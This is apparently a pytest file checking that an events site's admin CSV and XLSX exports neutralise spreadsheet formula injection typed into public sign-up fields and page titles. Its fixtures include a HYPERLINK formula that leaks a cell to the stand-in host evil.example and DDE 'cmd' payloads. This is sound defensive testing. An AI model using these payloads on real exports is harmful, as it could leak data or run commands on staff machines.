"""Exports cannot attack their reader: a stranger who signs up as `=HYPERLINK(...)` gets a
cell that a spreadsheet shows as typed, never a formula (CSV: a leading quote, as OWASP
advises; XLSX: a text cell). Downloaded through the real admin export, as the Events team does."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Group

from events import services
from events.factories import EventPageFactory, form_data
from home.factories import StandardPageFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?leak="&B2,"Click for details")',
    "organisation": "+SUM(1+1)*cmd|' /C calc'!A0",
    "role": "-2+3+cmd|' /C calc'!A0",
    "access_needs": "@SUM(1+1)",
}


@pytest.fixture
def events_team_member(django_user_model):
    user = django_user_model.objects.create_user(
        "events-team-member", "team@example.org", "a-long-test-password"
    )
    user.groups.add(Group.objects.get(name="Events team"))
    return user


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(client, url: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(download(client, url).decode())))


@pytest.fixture
def hostile_event(client):
    """An event with a hostile sign-up made through the public form, and a harmless one."""
    event = EventPageFactory(slug="hostile-export")
    response = client.post(
        f"/en-gb/sign-up/{event.pk}/",
        form_data(email="mallory@example.org", access_needs_consent="on", **HOSTILE),
        HTTP_HOST="localhost",
        HTTP_ORIGIN="http://localhost",
    )
    assert response.status_code == 303, "the public form accepted the sign-up"
    services.sign_up(event, {"name": "Alice Plain", "email": "alice@example.org"}, "en-gb")
    return event


def test_the_csv_export_neutralises_every_formula_a_stranger_typed(
    client, events_team_member, hostile_event
):
    client.force_login(events_team_member)
    rows = csv_rows(client, f"/admin/events/sign-ups/?event={hostile_event.pk}&export=csv")
    mallory = next(row for row in rows if row["Email"] == "mallory@example.org")
    assert mallory["Name"] == "'" + HOSTILE["name"]
    assert mallory["Organisation"] == "'" + HOSTILE["organisation"]
    assert mallory["Role"] == "'" + HOSTILE["role"]
    assert mallory["Access needs"] == "'" + HOSTILE["access_needs"]
    alice = next(row for row in rows if row["Email"] == "alice@example.org")
    assert alice["Name"] == "Alice Plain", "harmless text is exported as typed"


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"],  # noqa: RUF001
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "full-width-equals"],
)
def test_each_character_that_starts_a_formula_is_neutralised(client, events_team_member, name):
    # Through the service, as an organiser's edit or an import could store it: the public form
    # already strips a leading tab or carriage return.
    event = EventPageFactory(slug="formula-start")
    services.sign_up(event, {"name": name, "email": "someone@example.org"}, "en-gb")
    client.force_login(events_team_member)
    rows = csv_rows(client, f"/admin/events/sign-ups/?event={event.pk}&export=csv")
    assert [row["Name"] for row in rows] == ["'" + name]


def test_the_xlsx_export_stores_what_a_stranger_typed_as_text(
    client, events_team_member, hostile_event
):
    client.force_login(events_team_member)
    content = download(client, f"/admin/events/sign-ups/?event={hostile_event.pk}&export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    mallory = next(
        row for row in rows if row[headings.index("Email")].value == "mallory@example.org"
    )
    for heading, field in (
        ("Name", "name"),
        ("Organisation", "organisation"),
        ("Role", "role"),
        ("Access needs", "access_needs"),
    ):
        cell = mallory[headings.index(heading)]
        assert cell.value == HOSTILE[field], "kept exactly as typed"
        assert cell.data_type == "s", f"{heading} is a text cell, not a formula"
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        sheet_xml = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "the workbook holds no formulas"


def test_wagtails_own_report_exports_are_neutralised_too(client, editor):
    """The site history report lists page titles an editor typed: the same protection."""
    page = StandardPageFactory(
        title='=HYPERLINK("https://evil.example","x")', slug="formula-title", publish=False
    )
    page.save_revision(user=editor, log_action=True).publish(user=editor)
    client.force_login(editor)
    rows = csv_rows(client, "/admin/reports/site-history/?export=csv")
    titles = [value for row in rows for value in row.values() if "evil.example" in value]
    assert titles, "the page's history is in the export"
    assert all(title.startswith("'=") for title in titles)
